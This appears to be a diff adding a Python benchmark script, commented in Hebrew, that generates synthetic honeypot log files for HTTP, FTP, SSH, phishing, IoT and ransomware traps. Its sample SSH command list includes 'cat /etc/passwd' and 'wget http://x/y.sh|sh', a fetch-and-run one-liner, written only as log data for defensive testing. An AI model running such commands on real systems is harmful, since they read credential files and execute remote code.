@@ -0,0 +1,119 @@
+"""
+יצירת קורפוס לוגים סינתטי בפורמטים שהמלכודות כותבות היום:
+CSV עם מרכאות (http/ftp/ssh/open_ports), JSON (admin_panel/phishing),
+str(dict) (IoT Router), pipe key=value (ransomware) ושורות logger.log_interaction.
+
+    python -m benchmarks.corpus --lines 1000000 --out /tmp/honey_corpus
+"""
+from __future__ import annotations
+import argparse
+import json
+import random
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+from typing import Callable, Dict, List, Tuple
+
+USERS = ["admin", "root", "guest", "test", "oracle", "pi", "ubuntu", "support"]
+PASSWORDS = ["1234", "123456", "password", "toor", "admin", "qwerty", "letmein"]
+PATHS = ["/", "/login", "/wp-admin/", "/.env", "/phpmyadmin/", "/api/health", "/admin"]
+COMMANDS = ["ls -la", "uname -a", "cat /etc/passwd", "wget http://x/y.sh|sh", "id", "whoami"]
+PORTS = [21, 22, 23, 80, 443, 3306, 3389, 8080, 9999]
+
+
+def _ip(rnd: random.Random) -> str:
+    return f"{rnd.randint(1, 223)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
+
+
+def _iso(ts: datetime) -> str:
+    return ts.isoformat().replace("+00:00", "Z")
+
+
+def _http(rnd, ts, ip):
+    return f'{_iso(ts)},http,{ip},"GET {rnd.choice(PATHS)}"\n'
+
+
+def _ftp(rnd, ts, ip):
+    return f'{_iso(ts)},ftp,{ip},"USER {rnd.choice(USERS)}"\n'
+
+
+def _ssh(rnd, ts, ip):
+    return f'{_iso(ts)},ssh,{ip},"{rnd.choice(COMMANDS)}"\n'
+
+
+def _open_ports(rnd, ts, ip):
+    return f'{_iso(ts)},open_ports,{ip},"Port: {rnd.choice(PORTS)}"\n'
+
+
+def _admin_panel(rnd, ts, ip):
+    return json.dumps({"trap_type": "admin_panel", "time": ts.isoformat(), "ip": ip,
+                       "username": rnd.choice(USERS), "success": False}) + "\n"
+
+
+def _phishing(rnd, ts, ip):
+    return json.dumps({"trap": "phishing", "protocol": "HTTP", "username": rnd.choice(USERS),
+                       "password": rnd.choice(PASSWORDS), "ip": ip,
+                       "time": ts.strftime("%Y-%m-%d %H:%M:%S")}) + "\n"
+
+
+def _iot(rnd, ts, ip):
+    d = {"ssid": "Net" + str(rnd.randint(1, 99)), "password": rnd.choice(PASSWORDS), "dns": "1.1.1.1"}
+    return f"{_iso(ts)}, IoT Router, {ip}, {d}\n"
+
+
+def _ransomware(rnd, ts, ip):
+    return f'{_iso(ts)} | protocol=FILE | type=ransomware | ip={ip} | action="lock:f{rnd.randint(1, 9)}.pdf -> f.pdf.locked"\n'
+
+
+def _logger(rnd, ts, ip):
+    return f"{_iso(ts).split('.')[0]}Z, ssh, {ip}, {rnd.choice(COMMANDS)}\n"
+
+
+# קובץ -> (משקל, פורמט)
+FORMATS: Dict[str, Tuple[int, Callable]] = {
+    "http_honeypot.log": (25, _http),
+    "ftp_honeypot.log": (15, _ftp),
+    "ssh_honeypot.log": (15, _ssh),
+    "open_ports_honeypot.log": (20, _open_ports),
+    "admin_panel.log": (8, _admin_panel),
+    "phishing.log": (5, _phishing),
+    "iot_router_honeypot.log": (4, _iot),
+    "ransomware_honeypot.log": (3, _ransomware),
+    "honeypot.log": (5, _logger),
+}
+
+
+def generate(out_dir: Path, lines: int, seed: int = 1234, ip_pool: int = 5000) -> Dict[str, int]:
+    """כותב lines שורות מפוזרות בין הקבצים. מחזיר ספירה לכל קובץ."""
+    out_dir = Path(out_dir)
+    out_dir.mkdir(parents=True, exist_ok=True)
+    rnd = random.Random(seed)
+    ips: List[str] = [_ip(rnd) for _ in range(ip_pool)]
+    names = list(FORMATS)
+    weights = [FORMATS[n][0] for n in names]
+    handles = {n: open(out_dir / n, "w", encoding="utf-8", buffering=1 << 20) for n in names}
+    counts = {n: 0 for n in names}
+    ts = datetime(2025, 1, 1, tzinfo=timezone.utc)
+    try:
+        for _ in range(lines):
+            name = rnd.choices(names, weights)[0]
+            ts += timedelta(milliseconds=rnd.randint(1, 2000))
+            handles[name].write(FORMATS[name][1](rnd, ts, rnd.choice(ips)))
+            counts[name] += 1
+    finally:
+        for h in handles.values():
+            h.close()
+    return counts
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--lines", type=int, default=10_000)
+    ap.add_argument("--out", type=Path, required=True)
+    ap.add_argument("--seed", type=int, default=1234)
+    args = ap.parse_args()
+    counts = generate(args.out, args.lines, args.seed)
+    print(json.dumps(counts, indent=2))
+
+
+if __name__ == "__main__":
+    main()